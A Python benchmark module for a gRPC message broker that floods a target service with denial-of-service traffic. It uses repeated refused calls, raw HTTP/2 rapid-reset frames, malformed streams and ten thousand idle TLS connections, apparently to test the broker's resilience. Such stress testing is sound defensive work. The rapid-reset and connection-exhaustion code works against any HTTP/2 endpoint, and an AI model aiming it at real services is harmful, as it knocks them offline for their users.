"""A client process that harms a service as fast as it can, until its standard input ends.

    python -m stratamq_bench.child attacks.run address=HOST:PORT ca=FILE attack=refused-calls

    refused-calls     appends with an unknown token
    unknown-methods   calls of methods that are not there
    reset-streams     calls that are opened and reset at once (HTTP/2 rapid reset)
    reset-malformed   the same of calls that gRPC refuses by itself: they lack a header
    idle-connections  thousands of connections that say nothing behind their handshake

It prints `started` once it is at work. What the service closes is opened again. `serve_nothing` is
a gRPC server that offers nothing, to be attacked beside the broker: what is waited then is for the
processors that the attackers and the server take.
"""

import asyncio
import contextlib
import socket
import ssl
import struct
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path

import grpc

from stratamq.rpc.address import split_address
from stratamq.rpc.methods import METHODS

AT_ONCE = 16
IDLE_CONNECTIONS = 10_000
STREAMS_OF_A_CONNECTION = 2_000
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
_CANCELLED = b"\0\0\0\x08"
_AUTHORITY_AND_TYPE = b"\x41\x01x\x5f\x10application/grpc"
_TRAILERS = b"\x40\x02te\x08trailers"
_HEADERS, _RESET, _END_OF_HEADERS = 1, 3, 4
Attack = Callable[[str, Path], Awaitable[None]]


async def refused_calls(address: str, ca: Path) -> None:
    await _call(address, ca, METHODS["Append"].path, (("authorization", "Bearer unknown"),))


async def unknown_methods(address: str, ca: Path) -> None:
    await _call(address, ca, METHODS["Append"].path + "Nothing", ())


async def _call(address: str, ca: Path, path: str, metadata: tuple[tuple[str, str], ...]) -> None:
    credentials = grpc.ssl_channel_credentials(ca.read_bytes())
    async with grpc.aio.secure_channel(address, credentials) as channel:
        call = channel.unary_unary(path)

        async def again_and_again() -> None:
            while True:
                with contextlib.suppress(grpc.RpcError):
                    await call(b"", metadata=metadata, timeout=10)

        async with asyncio.TaskGroup() as tasks:
            for _ in range(AT_ONCE):
                tasks.create_task(again_and_again())


async def reset_streams(address: str, ca: Path) -> None:
    await _reset_again_and_again(address, ca, _TRAILERS)


async def reset_malformed(address: str, ca: Path) -> None:
    await _reset_again_and_again(address, ca, b"")


async def _reset_again_and_again(address: str, ca: Path, more_headers: bytes) -> None:
    path = METHODS["Append"].path.encode()
    block = b"\x83\x87\x44" + bytes([len(path)]) + path + _AUTHORITY_AND_TYPE + more_headers
    while True:
        with contextlib.suppress(OSError):
            await asyncio.to_thread(_reset, address, ca, block)


def _reset(address: str, ca: Path, block: bytes) -> None:
    with _connected(address, ca) as connection:
        connection.sendall(_PREFACE)
        for number in range(STREAMS_OF_A_CONNECTION):
            stream = 2 * number + 1
            opened = _frame(_HEADERS, _END_OF_HEADERS, stream, block)
            connection.sendall(opened + _frame(_RESET, 0, stream, _CANCELLED))


async def idle_connections(address: str, ca: Path) -> None:
    connections = []
    for _ in range(IDLE_CONNECTIONS):
        with contextlib.suppress(OSError):
            connections.append(await asyncio.to_thread(_connected, address, ca))
    await asyncio.Event().wait()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _connected(address: str, ca: Path) -> ssl.SSLSocket:
    context = ssl.create_default_context(cafile=str(ca))
    context.set_alpn_protocols(["h2"])
    host, port = split_address(address)
    plain = socket.create_connection((host, port), timeout=10)
    return context.wrap_socket(plain, server_hostname=host)


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (refused_calls, unknown_methods, reset_streams, reset_malformed, idle_connections)
}


async def run(attack: str, address: str, ca: str) -> None:
    """Attack until standard input ends."""
    work = asyncio.ensure_future(ATTACKS[attack](address, Path(ca)))
    print("started", flush=True)
    await asyncio.wait((work, _input_ended()), return_when=asyncio.FIRST_COMPLETED)
    if work.done():
        work.result()
    work.cancel()


def _input_ended() -> "asyncio.Future[None]":
    ended, loop = asyncio.get_running_loop().create_future(), asyncio.get_running_loop()
    loop.add_reader(sys.stdin, lambda: ended.done() or ended.set_result(None))
    return ended


async def serve_nothing(certificate: str, key: str) -> None:
    """Print the address, and serve until standard input ends."""
    server = grpc.aio.server()
    pair = Path(key).read_bytes(), Path(certificate).read_bytes()
    port = server.add_secure_port("127.0.0.1:0", grpc.ssl_server_credentials([pair]))
    await server.start()
    print(f"127.0.0.1:{port}", flush=True)
    await _input_ended()
    await server.stop(None)
